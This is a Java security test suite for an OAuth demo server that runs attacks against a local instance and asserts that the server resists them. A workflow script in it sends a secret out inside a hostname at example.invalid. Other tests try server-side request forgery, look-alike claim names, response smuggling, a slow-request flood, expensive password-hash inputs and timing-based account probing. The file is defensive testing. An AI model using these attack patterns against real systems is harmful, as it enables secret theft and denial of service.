package io.claimflow.demo;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.IntFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.LongStream;
import java.util.stream.Stream;

import javax.sql.DataSource;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import com.nimbusds.oauth2.sdk.dpop.DPoPProofFactory;
import com.nimbusds.oauth2.sdk.dpop.DefaultDPoPProofFactory;
import com.sun.net.httpserver.HttpServer;
import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.jdbc.datasource.DriverManagerDataSource;
import org.springframework.security.crypto.bcrypt.BCryptPasswordEncoder;
import org.springframework.security.crypto.password.DelegatingPasswordEncoder;
import org.springframework.security.crypto.password.Pbkdf2PasswordEncoder;
import org.springframework.security.crypto.password.Pbkdf2PasswordEncoder.SecretKeyFactoryAlgorithm;
import org.springframework.security.oauth2.core.AuthorizationGrantType;
import org.springframework.security.oauth2.core.ClientAuthenticationMethod;
import org.springframework.security.oauth2.server.authorization.client.JdbcRegisteredClientRepository;
import org.springframework.security.oauth2.server.authorization.client.RegisteredClient;

import static io.claimflow.demo.PackagedClient.claims;
import static io.claimflow.demo.PackagedClient.error;
import static io.claimflow.demo.PackagedClient.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Attacks at the packaged demo, in either database, and at two nodes of it.
 */
@Tag("any-jdk")
class PackagedDemoTests {

	/** A secret of workflows. */
	private static final String PARTNER_PASSWORD = "Tr0ub4dor-And-Others";

	private static final String NEW_PASSWORD = "seven-grey-geese";

	/** What holds in either database. */
	@TestInstance(TestInstance.Lifecycle.PER_CLASS)
	abstract static class Attacks {

		PackagedDemo demo;

		PackagedClient client;

		Path folder;

		ServerSocket thirdParty;

		HttpServer issuer;

		/** The first token of the issuer's, for which it takes all the time there is. */
		final CountDownLatch asked = new CountDownLatch(1);

		private final AtomicInteger issued = new AtomicInteger();

		/** Where the demo's data is, which the test can look at too. */
		abstract DataSource database() throws Exception;

		abstract List<String> arguments(DataSource database);

		@BeforeAll
		void start(@TempDir Path folder) throws Exception {
			PackagedDemo.assumePackaged();
			this.folder = folder;
			this.thirdParty = new ServerSocket(0);
			this.issuer = issuer();
			DataSource database = database();
			this.demo = startDemo(arguments(database));
			this.client = new PackagedClient(this.demo);
			new JdbcRegisteredClientRepository(new JdbcTemplate(database)).save(operator());
		}

		PackagedDemo startDemo(List<String> database) throws IOException {
			List<String> arguments = new ArrayList<>(database);
			arguments.add("--claimflow.api.enabled=true");
			arguments.add("--claimflow.api.clients=" + DemoAccounts.MACHINE_CLIENT + "," + PackagedClient.OPERATOR);
			arguments.add("--claimflow.fetch.allow=127.0.0.1:" + this.thirdParty.getLocalPort() + ",127.0.0.1:"
					+ this.issuer.getAddress().getPort());
			arguments.add("--claimflow.secrets.PARTNER_PASSWORD=" + PARTNER_PASSWORD);
			arguments.add("--claimflow.encryption.keys.k1=MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY=");
			arguments.add("--claimflow.project=file:" + project());
			return PackagedDemo.start(this.folder, arguments);
		}

		/** A machine asks by its user agent for what the workflow is to try. */
		private Path project() throws IOException {
			Path project = Files.createDirectories(this.folder.resolve("project"));
			Path workflows = Files.createDirectories(project.resolve("kindeSrc/environment/workflows"));
			Files.writeString(project.resolve("kinde.json"),
					"{ \"version\": \"2024-12-09\", \"rootDir\": \"kindeSrc\" }");
			Files.writeString(workflows.resolve("MachineWorkflow.ts"),
					"""
							import { fetch, getEnvironmentVariable, m2mTokenClaims } from "@kinde/infrastructure";
							export const workflowSettings = { id: "machine", trigger: "m2m:token_generation",
							  failurePolicy: { action: "stop" },
							  bindings: { "kinde.m2mToken": {}, "kinde.fetch": {}, "kinde.env": {}, url: {} } };
							const attacks: Record<string, (token: any, event: any) => any> = {
							  async page(token, event) {
							    try {
							      await fetch(event.context.domains.kindeDomain + "/mail", { method: "GET", responseFormat: "text" });
							      token.answer = true;
							    } catch (e: any) {
							      token.failed = String(e.message);
							    }
							  },
							  async surplus(token) {
							    token.answer = (await fetch("http://127.0.0.1:%d/", { method: "GET", responseFormat: "json" })).data;
							  },
							  names(token) {
							    for (const name of ["sub\\u034f", "iss\\ufe0f", "sub\\u3164", "s\\u17b4ub", "\\u2060aud", "AUD", "ѕub", "exp\\ud83c\\udff3\\ufe0f".slice(0, 3) + "\\u200d"])
							      token[name] = "other";
							    token.mine = true;
							  },
							  async host() {
							    await fetch("http://" + getEnvironmentVariable("PARTNER_PASSWORD")!.value + ".example.invalid/", { method: "GET" });
							  },
							  async shared(token) {
							    const jwt = await (globalThis as any).kinde.cache.jwtToken("shared", { onMissingOrExpired: async () =>
							      (await fetch("http://127.0.0.1:%d/", { method: "GET", responseFormat: "json" })).data.access_token });
							    token.shared = JSON.parse(atob(jwt.split(".")[1])).jti;
							  },
							};
							export default async function (event: any) {
							  await attacks[event.request.userAgent]?.(m2mTokenClaims(), event);
							}
							"""
						.formatted(this.thirdParty.getLocalPort(), this.issuer.getAddress().getPort()));
			Files.writeString(workflows.resolve("UserWorkflow.ts"), """
					import { accessTokenCustomClaims, denyAccess, idTokenCustomClaims } from "@kinde/infrastructure";
					export const workflowSettings = { id: "user", trigger: "user:tokens_generation",
					  failurePolicy: { action: "stop" },
					  bindings: { "kinde.accessToken": {}, "kinde.idToken": {}, "kinde.auth": {} } };
					export default async function (event: any) {
					  if (event.request.userAgent === "deny") denyAccess("Not today");
					  const id: any = idTokenCustomClaims();
					  (accessTokenCustomClaims() as any).seen = { sid: id.sid, auth_time: id.auth_time };
					}
					""");
			return project;
		}

		private HttpServer issuer() throws IOException {
			HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
			server.setExecutor(Executors.newCachedThreadPool());
			server.createContext("/", (exchange) -> {
				if (this.issued.getAndIncrement() == 0) {
					this.asked.countDown();
					exchange.getRequestBody().read();
					return;
				}
				byte[] body = "{\"access_token\":\"%s\"}".formatted(jwt()).getBytes(StandardCharsets.UTF_8);
				exchange.getResponseHeaders().add("Content-Type", "application/json");
				exchange.sendResponseHeaders(200, body.length);
				exchange.getResponseBody().write(body);
				exchange.close();
			});
			server.start();
			return server;
		}

		private static String jwt() {
			try {
				SignedJWT jwt = new SignedJWT(new JWSHeader(JWSAlgorithm.HS256),
						new JWTClaimsSet.Builder().jwtID("the second")
							.expirationTime(Date.from(Instant.now().plusSeconds(3600)))
							.build());
				jwt.sign(new MACSigner("a key of tests, which is no secret"));
				return jwt.serialize();
			}
			catch (com.nimbusds.jose.JOSEException ex) {
				throw new IllegalStateException(ex);
			}
		}

		private static RegisteredClient operator() {
			String secret = new DelegatingPasswordEncoder("pbkdf2-once",
					Map.of("pbkdf2-once",
							new Pbkdf2PasswordEncoder("", 16, 1, SecretKeyFactoryAlgorithm.PBKDF2WithHmacSHA256)))
				.encode(PackagedClient.OPERATOR_SECRET);
			return RegisteredClient.withId(PackagedClient.OPERATOR)
				.clientId(PackagedClient.OPERATOR)
				.clientSecret(secret)
				.clientAuthenticationMethod(ClientAuthenticationMethod.CLIENT_SECRET_BASIC)
				.authorizationGrantType(AuthorizationGrantType.CLIENT_CREDENTIALS)
				.scopes((scopes) -> scopes
					.addAll(List.of("read:users", "create:users", "update:users", "update:user_passwords")))
				.build();
		}

		@AfterAll
		void stop() throws Exception {
			if (this.demo != null) {
				this.demo.close();
			}
			if (this.thirdParty != null) {
				this.thirdParty.close();
			}
			if (this.issuer != null) {
				this.issuer.stop(0);
			}
		}

		@Test
		void aWorkflowReachesNoPageOfItsServer() throws Exception {
			Map<String, Object> claims = this.client.machineClaims("page");
			assertThat(claims).doesNotContainKey("answer");
			assertThat((String) claims.get("failed")).contains("is refused");
		}

		@Test
		void bytesBehindAnAnswerAreNobodysAnswer() throws Exception {
			Thread server = new Thread(this::sayTooMuch, "third-party");
			server.setDaemon(true);
			server.start();
			for (int i = 0; i < 3; i++) {
				assertThat(this.client.machineClaims("surplus").get("answer")).asString().doesNotContain("another");
			}
		}

		private void sayTooMuch() {
			String first = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n"
					+ "{\"of\":\"this\"}";
			String second = first.replace("this", "another").replace("13", "16");
			while (!this.thirdParty.isClosed()) {
				try (Socket socket = this.thirdParty.accept()) {
					socket.setSoTimeout(5_000);
					while (socket.getInputStream().read(new byte[4096]) > 0) {
						socket.getOutputStream().write((first + second).getBytes(StandardCharsets.US_ASCII));
					}
				}
				catch (IOException ex) {
					// The client has closed the connection, or the test is over.
				}
			}
		}

		@Test
		void aTokenOfTheManagementApiCanBeReadBackAndRevoked() throws Exception {
			String audience = this.demo.uri("/api").toString();
			Map<String, Object> answer = json(this.client.postAsMachine("/oauth2/token", "grant_type",
					"client_credentials", "audience", audience));
			String token = (String) answer.get("access_token");
			assertThat(json(this.client.postAsMachine("/oauth2/introspect", "token", token))).containsEntry("active",
					true);
			assertThat(this.client.postAsMachine("/oauth2/revoke", "token", token).statusCode()).isEqualTo(200);
			assertThat(json(this.client.postAsMachine("/oauth2/introspect", "token", token))).containsEntry("active",
					false);
		}

		@ParameterizedTest
		@ValueSource(strings = { "resource", "audience", "login_hint" })
		void aCodeOfARequestWithAParameterTwiceIsRedeemed(String parameter) throws Exception {
			Map<String, Object> tokens = json(this.client
				.redeem(this.client.code(parameter, "https://a.example", parameter, "https://b.example")));
			Map<String, Object> refreshed = json(this.client.refresh((String) tokens.get("refresh_token")));
			assertThat(json(
					this.client.postAsMachine("/oauth2/introspect", "token", (String) refreshed.get("access_token"))))
				.containsEntry("active", true);
		}

		@Test
		void aHashThatCostsHoursIsNobodysPassword() throws Exception {
			create("Hedy@example.com");
			String costly = "$2a$31$" + "a".repeat(53);
			for (String hash : List.of(costly, "{bcrypt}" + costly, "{bcrypt}", "{bcrypt}{bcrypt}" + costly,
					"{scrypt}$1f0801$" + "a".repeat(88) + "$" + "a".repeat(44), "{pbkdf2}" + "a".repeat(80), "{noop}x",
					"{argon2@SpringSecurity_v5_8}$argon2id$v=19$m=9999999,t=99,p=1$" + "a".repeat(22) + "$"
							+ "a".repeat(43))) {
				assertThat(setPassword("hedy@example.com", hash)).as(hash).isEqualTo(400);
			}
			assertThat(setPassword("hedy@example.com", "{bcrypt}" + new BCryptPasswordEncoder(5).encode(NEW_PASSWORD)))
				.isEqualTo(200);
			assertThat(this.client.code(new PlainBrowser(), "hedy@example.com", NEW_PASSWORD)).isNotEmpty();
		}

		@Test
		void aUserWithCapitalLettersIsFoundAndSignsInAndIsNotMadeAgain() throws Exception {
			assertThat(create("Grace@Example.com")).containsEntry("created", true);
			for (String typed : List.of("Grace@Example.com", "grace@example.com", "GRACE@EXAMPLE.COM")) {
				assertThat(this.client.api("GET", "users?email=" + typed, "").body()).contains("grace@example.com");
				assertThat(create(typed)).containsEntry("created", false);
			}
			assertThat(setPassword("Grace@Example.com", new BCryptPasswordEncoder(4).encode(NEW_PASSWORD)))
				.isEqualTo(200);
			assertThat(this.client.code(new PlainBrowser(), "Grace@Example.com", NEW_PASSWORD)).isNotEmpty();
			assertThat(create("Ada@Example.com")).as("an account of the demo's own").containsEntry("created", false);
		}

		private Map<String, Object> create(String email) throws Exception {
			return json(this.client.api("POST", "user",
					"{\"identities\":[{\"type\":\"email\",\"details\":{\"email\":\"" + email + "\"}}]}"));
		}

		private int setPassword(String id, String hash) throws Exception {
			return this.client.api("PUT", "users/" + id + "/password", "{\"hashed_password\":\"" + hash + "\"}")
				.statusCode();
		}

		@Test
		void aWorkflowSeesTheSessionOfTheFirstIdToken() throws Exception {
			Map<String, Object> tokens = json(this.client.redeem(this.client.code()));
			Map<String, Object> idToken = claims(tokens, "id_token");
			assertThat(idToken).containsKeys("sid", "auth_time");
			assertThat(claims(tokens, "access_token")).containsEntry("seen",
					Map.of("sid", idToken.get("sid"), "auth_time", idToken.get("auth_time")));
		}

		@Test
		void aNameThatLooksLikeAProtectedOneIsInNoToken() throws Exception {
			assertThat(this.client.machineClaims("names")).containsEntry("mine", true).doesNotContainValue("other");
		}

		@Test
		void aSecretThatIsPartOfAHostNameIsNotInTheLog() throws Exception {
			assertThat(this.client.machine("host").statusCode()).isEqualTo(400);
			await().until(() -> this.demo.log().contains("example.invalid"));
			assertThat(this.demo.log()).doesNotContainIgnoringCase(PARTNER_PASSWORD);
		}

		@Test
		void thereAreNoPagesOfOperators() throws Exception {
			for (String path : List.of("/actuator", "/actuator/env", "/actuator/configprops", "/h2-console")) {
				assertThat(new PlainBrowser().signIn(this.demo.uri(path)).html()).as(path)
					.contains("404")
					.doesNotContain(PARTNER_PASSWORD);
			}
		}

		@Test
		void manyRequestsWithOneTokenAreAllAnswered() throws Exception {
			String token = (String) json(this.client.redeem(this.client.code())).get("access_token");
			assertThat(atOnce(60, (number) -> () -> this.client.userInfo(token).statusCode())).containsOnly(200);
		}

		@Test
		void aCodeIsRedeemedOnceAtMost() throws Exception {
			String code = this.client.code();
			List<Integer> statuses = atOnce(20, (number) -> () -> this.client.redeem(code).statusCode());
			assertThat(statuses).containsOnlyElementsOf(statuses.contains(200) ? List.of(200, 400) : List.of(400));
			assertThat(statuses.stream().filter((status) -> status == 200)).hasSizeLessThanOrEqualTo(1);
		}

		@Test
		void aCodeOfManyRequestsIsRedeemedOrDeniedOnce() throws Exception {
			String code = this.client.code();
			List<HttpResponse<String>> answers = atOnce(20, (number) -> () -> PackagedClient
				.send(this.client.redemption(code).header("User-Agent", (number % 2 == 0) ? "deny" : "allow").build()));
			assertThat(answers)
				.filteredOn((answer) -> answer.statusCode() == 200 || answer.body().contains("Not today"))
				.hasSize(1);
			assertThat(error(this.client.redeem(code))).isEqualTo("invalid_grant");
		}

		@Test
		void aRotatedRefreshTokenThatComesAgainEndsItsSuccessors() throws Exception {
			String first = (String) json(this.client.redeem(this.client.code())).get("refresh_token");
			String second = (String) json(this.client.refresh(first)).get("refresh_token");
			assertThat(error(this.client.refresh(first))).isEqualTo("invalid_grant");
			assertThat(error(this.client.refresh(second))).isEqualTo("invalid_grant");
		}

		@Test
		void aRefreshTokenThatIsBoundToAKeyNeedsItsProof() throws Exception {
			DPoPProofFactory proofs = proofs();
			HttpRequest.Builder redemption = this.client.redemption(this.client.code());
			Map<String, Object> tokens = json(PackagedClient.send(withProof(redemption, proofs)));
			assertThat(tokens).containsEntry("token_type", "DPoP");
			String token = (String) tokens.get("refresh_token");
			assertThat(error(this.client.refresh(token))).isEqualTo("invalid_dpop_proof");
			assertThat(error(PackagedClient.send(withProof(this.client.refreshment(token), proofs()))))
				.isEqualTo("invalid_dpop_proof");
			assertThat(json(PackagedClient.send(withProof(this.client.refreshment(token), proofs))))
				.containsEntry("token_type", "DPoP");
		}

		private static DPoPProofFactory proofs() throws Exception {
			return new DefaultDPoPProofFactory(new ECKeyGenerator(Curve.P_256).generate(), JWSAlgorithm.ES256);
		}

		private HttpRequest withProof(HttpRequest.Builder request, DPoPProofFactory proofs) throws Exception {
			return request.header("DPoP", proofs.createDPoPJWT("POST", this.demo.uri("/oauth2/token")).serialize())
				.build();
		}

		@Test
		void aDeviceThatTheUserDoesNotConnectGetsNoToken() throws Exception {
			PlainBrowser browser = new PlainBrowser();
			Map<String, Object> device = json(
					this.client.postAsWeb("/oauth2/device_authorization", "scope", "profile"));
			PlainBrowser.Page form = browser.signIn(this.demo.uri("/activate"));
			PlainBrowser.Page question = browser.submit(form, "/oauth2/device_verification",
					Map.of("user_code", (String) device.get("user_code")));
			assertThat(browser.press(question, "Do not connect").html()).contains("Device not connected");
			assertThat(error(this.client.postAsWeb("/oauth2/token", "grant_type",
					"urn:ietf:params:oauth:grant-type:device_code", "device_code", (String) device.get("device_code"))))
				.isEqualTo("access_denied");
		}

		@Test
		void theFormForAForgottenPasswordTakesAsLongForStrangers() throws Exception {
			PlainBrowser browser = new PlainBrowser();
			PlainBrowser.Page form = browser.get(this.demo.uri("/forgot-password"));
			long[] known = new long[40];
			long[] unknown = new long[40];
			for (int i = 0; i < known.length; i++) {
				known[i] = nanos(browser, form, DemoAccounts.USERNAME);
				unknown[i] = nanos(browser, form, "stranger" + i + "@example.com");
			}
			assertThat(median(known)).isLessThan(median(unknown) * 1.5);
			assertThat(median(unknown)).isLessThan(median(known) * 1.5);
		}

		private static long nanos(PlainBrowser browser, PlainBrowser.Page form, String email) throws Exception {
			long start = System.nanoTime();
			browser.submit(form, "/forgot-password", Map.of("email", email));
			return System.nanoTime() - start;
		}

		private static double median(long[] values) {
			return LongStream.of(values).sorted().skip(values.length / 2).findFirst().orElseThrow();
		}

		@Test
		void aNewPasswordEndsSessionsAndRefreshTokens() throws Exception {
			create("edsger@example.com");
			setPassword("edsger@example.com", new BCryptPasswordEncoder(4).encode("four-green-frogs"));
			PlainBrowser thief = new PlainBrowser();
			Map<String, Object> tokens = json(
					this.client.redeem(this.client.code(thief, "edsger@example.com", "four-green-frogs")));
			assertThat(thief.get(this.demo.uri("/account")).uri()).hasPath("/account");

			PlainBrowser owner = new PlainBrowser();
			owner.submit(owner.get(this.demo.uri("/forgot-password")), "/forgot-password",
					Map.of("email", "Edsger@example.com"));
			PlainBrowser.Page form = owner.get(linkFor(owner, "edsger@example.com"));
			owner.submit(form, "/reset-password",
					Map.of("p_first_password", NEW_PASSWORD, "p_second_password", NEW_PASSWORD));

			assertThat(thief.get(this.demo.uri("/account")).uri()).hasPath("/login");
			assertThat(error(this.client.refresh((String) tokens.get("refresh_token")))).isEqualTo("invalid_grant");
			assertThat(
					json(this.client.postAsMachine("/oauth2/introspect", "token", (String) tokens.get("access_token"))))
				.containsEntry("active", false);
			assertThat(this.client.code(new PlainBrowser(), "edsger@example.com", NEW_PASSWORD)).isNotEmpty();
		}

		/** The mail is sent a moment after the answer. */
		private URI linkFor(PlainBrowser browser, String email) {
			Pattern link = Pattern.compile("<dd>" + Pattern.quote(email) + "</dd>.*?href=\"([^\"]+)\"", Pattern.DOTALL);
			return await().until(() -> {
				Matcher found = link.matcher(browser.get(this.demo.uri("/mail")).html());
				return found.find() ? URI.create(found.group(1)) : null;
			}, (found) -> found != null);
		}

		@Test
		void clientsThatSendSlowlyStopNobodyElse() throws Exception {
			List<Socket> slow = new ArrayList<>();
			try {
				for (int i = 0; i < 230; i++) {
					Socket socket = new Socket("127.0.0.1", this.demo.port());
					slow.add(socket);
					OutputStream out = socket.getOutputStream();
					out.write(("POST /oauth2/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1000\r\n"
							+ "Content-Type: application/x-www-form-urlencoded\r\n\r\ngrant_type=")
						.getBytes(StandardCharsets.US_ASCII));
					out.flush();
				}
				assertThat(this.client.get("/demo.css").statusCode()).isEqualTo(200);
			}
			finally {
				for (Socket socket : slow) {
					socket.close();
				}
			}
			// The server needs a moment to find out that they are gone.
			await().untilAsserted(() -> assertThat(this.client.machine("none").statusCode()).isEqualTo(200));
		}

	}

	@Nested
	class OnH2 extends Attacks {

		@Override
		DataSource database() {
			return new DriverManagerDataSource("jdbc:h2:file:" + this.folder.resolve("demo") + ";AUTO_SERVER=TRUE",
					"sa", "");
		}

		@Override
		List<String> arguments(DataSource database) {
			return List.of("--spring.datasource.url=" + ((DriverManagerDataSource) database).getUrl());
		}

	}

	@Nested
	class OnPostgreSql extends Attacks {

		private EmbeddedPostgres postgres;

		/** Two more nodes, which have started at the same time. */
		private PackagedDemo other;

		private PackagedDemo doomed;

		@Override
		DataSource database() throws IOException {
			this.postgres = EmbeddedPostgres.start();
			return this.postgres.getPostgresDatabase();
		}

		@Override
		List<String> arguments(DataSource database) {
			return List.of("--spring.datasource.url=" + this.postgres.getJdbcUrl("postgres", "postgres"),
					"--spring.datasource.username=postgres");
		}

		/** All three begin on a database without a table. */
		@Override
		PackagedDemo startDemo(List<String> arguments) throws IOException {
			List<CompletableFuture<PackagedDemo>> nodes = IntStream.range(0, 3)
				.mapToObj((number) -> CompletableFuture.supplyAsync(() -> {
					try {
						return super.startDemo(arguments);
					}
					catch (IOException ex) {
						throw new IllegalStateException(ex);
					}
				}, (task) -> new Thread(task, "start-" + number).start()))
				.toList();
			this.other = nodes.get(1).join();
			this.doomed = nodes.get(2).join();
			return nodes.get(0).join();
		}

		@Test
		void aTokenThatOneNodeHasReplacedIsKnownToTheOther() throws Exception {
			PackagedClient there = new PackagedClient(this.other);
			String first = (String) json(this.client.redeem(this.client.code())).get("refresh_token");
			String second = (String) json(there.refresh(first)).get("refresh_token");
			assertThat(error(this.client.refresh(first))).isEqualTo("invalid_grant");
			assertThat(error(there.refresh(second))).isEqualTo("invalid_grant");
		}

		@Test
		void aNodeThatIsKilledWhileItFetchesASharedTokenStopsNoOther() throws Exception {
			CompletableFuture<?> never = CompletableFuture.supplyAsync(() -> {
				try {
					return new PackagedClient(this.doomed).machine("shared").statusCode();
				}
				catch (Exception ex) {
					return ex;
				}
			});
			assertThat(this.asked.await(20, TimeUnit.SECONDS)).isTrue();
			this.doomed.kill();
			List<HttpResponse<String>> answers = atOnce(4, (number) -> () -> this.client.machine("shared"));
			assertThat(answers).allSatisfy(
					(answer) -> assertThat(claims(json(answer), "access_token")).containsEntry("shared", "the second"));
			assertThat(never.get(20, TimeUnit.SECONDS)).isNotEqualTo(200);
		}

		@Override
		@AfterAll
		void stop() throws Exception {
			try {
				if (this.demo != null) {
					this.other.close();
					this.doomed.close();
					aDatabaseThatDoesNotAnswerIsAnErrorOfOAuth();
				}
			}
			finally {
				super.stop();
			}
		}

		/** First it hangs, and then it is gone. */
		private void aDatabaseThatDoesNotAnswerIsAnErrorOfOAuth() throws Exception {
			Map<String, Object> tokens = json(this.client.redeem(this.client.code()));
			String token = (String) tokens.get("access_token");
			List<Long> processes = processes();
			try {
				signal("STOP", processes);
				Instant start = Instant.now();
				List<HttpResponse<String>> answers = atOnce(60, (number) -> () -> switch (number % 6) {
					case 0 -> this.client.get("/demo.css");
					case 1 -> this.client.machine("none");
					case 2 -> this.client.userInfo(token);
					case 3 -> this.client.postAsMachine("/oauth2/introspect", "token", token);
					case 4 -> this.client.stranger();
					default -> this.client.get("/connect/logout?id_token_hint=" + tokens.get("id_token"));
				});
				assertThat(Duration.between(start, Instant.now())).isLessThan(Duration.ofSeconds(20));
				for (int i = 0; i < answers.size(); i++) {
					if (i % 6 == 0) {
						assertThat(answers.get(i).statusCode()).isEqualTo(200);
					}
					else {
						isUnavailable(answers.get(i));
					}
				}
			}
			finally {
				signal("CONT", processes);
			}
			assertThat(this.client.machine("none").statusCode()).as("once it goes on").isEqualTo(200);
			this.postgres.close();
			isUnavailable(this.client.machine("none"));
			assertThat(this.client.get("/demo.css").statusCode()).isEqualTo(200);
		}

		private static void isUnavailable(HttpResponse<String> answer) {
			assertThat(answer.statusCode()).as(answer.body()).isEqualTo(503);
			assertThat(error(answer)).isEqualTo("temporarily_unavailable");
		}

		/** The server and those that serve one connection each. */
		private List<Long> processes() {
			long server = Long.parseLong(JdbcClient.create(this.postgres.getPostgresDatabase())
				.sql("select pg_read_file('postmaster.pid')")
				.query(String.class)
				.single()
				.lines()
				.findFirst()
				.orElseThrow());
			return Stream
				.concat(Stream.of(server), ProcessHandle.of(server).orElseThrow().descendants().map(ProcessHandle::pid))
				.toList();
		}

		private static void signal(String name, List<Long> processes) throws Exception {
			List<String> command = new ArrayList<>(List.of("kill", "-" + name));
			processes.forEach((process) -> command.add(process.toString()));
			// One that has served a connection may have ended by now.
			new ProcessBuilder(command).start().waitFor();
		}

	}

	private static <T> List<T> atOnce(int number, IntFunction<Callable<T>> attacks) throws Exception {
		ExecutorService clients = Executors.newFixedThreadPool(number);
		CountDownLatch ready = new CountDownLatch(number);
		try {
			List<Future<T>> answers = IntStream.range(0, number).mapToObj((index) -> clients.submit(() -> {
				ready.countDown();
				ready.await();
				return attacks.apply(index).call();
			})).toList();
			List<T> results = new ArrayList<>();
			for (Future<T> answer : answers) {
				results.add(answer.get());
			}
			return results;
		}
		finally {
			clients.shutdownNow();
		}
	}

}
